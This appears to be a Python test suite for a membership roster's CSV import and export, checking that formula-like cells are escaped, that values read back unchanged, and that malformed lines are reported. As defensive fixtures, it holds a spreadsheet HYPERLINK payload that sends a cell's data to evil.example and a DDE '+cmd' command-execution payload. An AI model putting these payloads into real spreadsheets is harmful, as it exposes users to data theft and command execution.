"""The member list as a file: no cell comes out as a formula, and no line is lost silently."""

from __future__ import annotations

import csv
import io

from hypothesis import example, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from service.membership.roster import from_spreadsheet, parse_roster, to_spreadsheet
from service.models import Contact, Organisation
from tests.service.test_roster import BOM, HEADER, stored_contacts, summary, wg, write_csv

FORMULA = '=HYPERLINK("https://evil.example/?d="&C2,"Open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def exported_rows(app) -> list[dict[str, str]]:
    result = wg(app, "members", "export")
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout.removeprefix(BOM), newline="")))


def test_a_formula_in_any_cell_is_exported_as_text(app, db, make_member):
    make_member("amara@riverbank.example", name="+cmd|' /C calc'!A0", organisation=FORMULA)
    amara = db.scalar(select(Contact))
    amara.role, amara.phone = "@SUM(A1:A9)", "-2+3"
    db.commit()

    (row,) = exported_rows(app)

    assert row["organization"] == "'" + FORMULA
    assert row["name"] == "'+cmd|' /C calc'!A0"
    assert row["role"] == "'@SUM(A1:A9)"
    assert row["phone"] == "'-2+3"
    assert row["email"] == "amara@riverbank.example"


def test_a_phone_number_is_exported_as_it_is(app, db, make_member):
    make_member("amara@riverbank.example")
    amara = db.scalar(select(Contact))
    amara.phone = "+855 12 345 678"
    db.commit()

    (row,) = exported_rows(app)

    assert row["phone"] == "+855 12 345 678"


def test_formula_cells_import_back_to_what_was_stored(app, db, tmp_path, make_member):
    make_member("amara@riverbank.example", name="'=already quoted", organisation=FORMULA)
    make_member("sok@riverbank.example", name="@Sok", organisation="-Minus Network")
    before = stored_contacts(db)
    path = tmp_path / "members.csv"
    path.write_bytes(wg(app, "members", "export").stdout_bytes)

    result = wg(app, "members", "import", str(path))

    assert result.exit_code == 0, result.output
    assert summary(result.stdout) == (
        "created 0, updated 0, unchanged 2, skipped 0 (suppressed), errors 0"
    )
    assert stored_contacts(db) == before


@settings(max_examples=300, deadline=None)
@example(value=FORMULA)
@example(value="+855 12 345 678")
@example(value="'+855 12 345 678")
@example(value="''=1+1")
@given(value=st.text(alphabet=st.sampled_from("=+-@\t\r'0123 ()aA!|"), max_size=12) | st.text())
def test_no_exported_cell_starts_a_formula_and_every_cell_reads_back(value):
    cell = to_spreadsheet(value)

    assert from_spreadsheet(cell) == value
    if cell.startswith(TRIGGERS):  # only a phone number: no letters, no formula
        assert cell.startswith("+") and set(cell) <= set("+0123456789 ()./-")


def test_an_unterminated_quote_is_reported_and_the_lines_after_it_are_read(app, db, tmp_path):
    path = write_csv(
        tmp_path / "members.csv",
        [
            HEADER,
            'Riverbank,"Amara Keo,amara@riverbank.example,en,,',
            "Riverbank,Dara,dara@riverbank.example,en,,",
            "Riverbank,Sok,sok@riverbank.example,km,,",
            "Riverbank,Vuthy,vuthy@riverbank.example,en,,",
        ],
    )

    result = wg(app, "members", "import", str(path))

    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        "line 2: a double quote opened on this line is never closed "
        '(inside a quoted value, write a double quote twice: "")',
        "organisations: created 1, updated 0",
        "created 3, updated 0, unchanged 0, skipped 0 (suppressed), errors 1",
    ]
    assert sorted(stored_contacts(db)) == [
        "dara@riverbank.example",
        "sok@riverbank.example",
        "vuthy@riverbank.example",
    ]


def test_every_line_of_a_record_that_cannot_be_read_is_named():
    parsed = parse_roster(
        (
            f"{HEADER}\r\n"
            '"Riverbank"x,Amara,amara@riverbank.example,en,,\r\n'
            'Riverbank,"Dara\r\nSok",dara@riverbank.example,en,,\r\n'
            "Riverbank,Sok,sok@riverbank.example,km,,\r\n"
        ).encode()
    )

    assert [str(problem) for problem in parsed.problems] == [
        "line 2: text after the closing double quote of a value "
        '(inside a quoted value, write a double quote twice: "")',
        "lines 3-4: line break in name",
    ]
    assert [row.email for row in parsed.rows] == ["sok@riverbank.example"]


def test_an_import_with_an_error_exits_1_even_as_a_dry_run(app, db, tmp_path):
    path = write_csv(
        tmp_path / "members.csv",
        [HEADER, "Riverbank,Amara,amara@riverbank.example,en,,", "Riverbank,Dara,dara@,en,,"],
    )

    dry = wg(app, "members", "import", str(path), "--dry-run")
    real = wg(app, "members", "import", str(path))

    assert (dry.exit_code, real.exit_code) == (1, 1)
    assert summary(real.stdout).endswith("errors 1")
    assert db.scalar(select(Organisation.name)) == "Riverbank"


def test_an_import_with_only_skipped_rows_exits_0(app, db, tmp_path, make_member):
    from service.models import ContactStatus

    make_member("left@riverbank.example", status=ContactStatus.UNSUBSCRIBED)
    path = write_csv(tmp_path / "m.csv", [HEADER, "Riverbank,Left,left@riverbank.example,en,,"])

    result = wg(app, "members", "import", str(path))

    assert result.exit_code == 0, result.output
    assert summary(result.stdout).endswith("skipped 1 (suppressed), errors 0")
